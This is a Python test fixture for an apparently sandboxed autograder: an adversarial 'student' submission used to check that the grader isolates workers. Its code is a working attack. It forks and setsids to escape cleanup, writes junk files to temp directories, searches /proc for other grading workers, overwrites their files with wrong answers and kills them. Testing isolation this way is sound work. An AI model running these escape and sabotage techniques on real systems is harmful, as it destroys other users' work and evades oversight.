"""Attack, class 2: a process that tries to outlive its worker (a setsid chain whose pid
keeps changing, to outrun a sweep of the grader's children) and, meanwhile, as the same user
as every other worker, finds the other workers in /proc (their folder is in their command
line), overwrites their student's file with wrong answers and kills them; it litters /tmp,
/dev/shm and /var/tmp. Its own answers are honest (10/10); neighbour_victim (honest, graded
at the same time with --jobs 2, or after it) must still get 10/10, and no process or file of
it may outlive its worker."""
import os
import time

_OWN = os.getcwd()
_STUB = ("def conv_cost(m, k, c_in, c_out):\n    return {'time': -14, 'space': -14, 'params': -14}\n\n"
         "def bottleneck_cost(m, k, c_in, c_mid, c_out):\n    return {'time': -14, 'space': -14, 'params': -14}\n")


def _name():
    try:
        import ctypes

        ctypes.CDLL(None).prctl(15, b"@TOKEN@", 0, 0, 0)  # PR_SET_NAME
    except Exception:  # noqa: BLE001
        pass


def _litter():
    for d in ("/tmp", "/dev/shm", "/var/tmp"):
        try:
            with open(os.path.join(d, "@TOKEN@-litter"), "w") as fh:
                fh.write("left behind")
        except OSError:
            pass


def _haunt(seconds):
    end = time.monotonic() + seconds
    done = set()
    while time.monotonic() < end:
        try:
            pids = [p for p in os.listdir("/proc") if p.isdigit()]
        except OSError:
            pids = []
        for pid in pids:
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as fh:
                    argv = fh.read().decode(errors="replace").split("\0")
            except OSError:
                continue
            if "--dir" not in argv or "--file" not in argv:
                continue
            folder = argv[argv.index("--dir") + 1]
            target = os.path.join(folder, argv[argv.index("--file") + 1])
            if folder == _OWN or os.path.realpath(folder) == os.path.realpath(_OWN):
                continue
            if target not in done:
                try:
                    with open(target, "w") as fh:
                        fh.write(_STUB)
                    done.add(target)
                except OSError:
                    pass
            try:
                os.kill(int(pid), 9)
            except OSError:
                pass
        time.sleep(0.005)


def _survive():
    if os.fork() != 0:
        return
    os.setsid()
    _name()
    _litter()
    walk_until = time.monotonic() + 1.0
    while time.monotonic() < walk_until:  # a new pid every few milliseconds
        try:
            if os.fork() != 0:
                os._exit(0)
        except OSError:
            time.sleep(0.001)
        _name()
    _litter()
    _haunt(10.0)
    os._exit(0)


_survive()
time.sleep(1.5)  # the worker stays while the haunting starts
